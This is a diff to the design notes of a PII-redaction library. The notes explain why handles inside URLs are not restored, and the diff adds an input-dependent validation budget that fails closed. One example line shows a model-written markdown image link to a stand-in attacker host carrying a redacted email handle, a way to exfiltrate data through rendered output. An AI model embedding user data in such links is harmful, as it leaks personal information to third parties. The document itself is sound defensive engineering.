@@ -94,10 +94,18 @@ Handles in URLs stay handles. A model can write a handle into a link or an
 image address (`![x](https://evil.example/?q=[EMAIL_1])`, `<mailto:[EMAIL_1]>`,
 a bare `https://...` URL, an `href=`/`src=` value); restoring it there would
 hand the value to whoever serves that address as soon as the host renders or
-fetches it. So by default restoration replaces handles in text only, leaves the
+fetches it. Whether a handle is in one is read from the whitespace-free token
+before it, however long, each character once (UrlTokens). So by default restoration replaces handles in text only, leaves the
 ones inside URLs as they are and lists them in `metadata.keptInUrls`; with
 `restoreInUrls: true` every handle is restored (the exact round trip then holds
 for any input, URLs the user wrote with PII in them included).
+
+A bounded number of validations. Asking phonenumbers or stdnum about a candidate costs 30-100 us, a thousand
+times what reading a character costs, so one call asks about at most `validation_budget(characters)` distinct
+candidates (8, and one more per KiB of its text); past that it fails closed: a candidate with the shape of a
+phone number or an SSN is redacted unasked, and overlapping spans are merged into one handle, so a real number
+is never left in the text because the budget ran out (see _phone_ok). What a call redacts depends on its input
+alone, not on what earlier calls left in the caches.
 
 Hand-written detection, on purpose. The libraries that find PII in free text
 either load NLP models at run time (Presidio needs a spaCy model download,
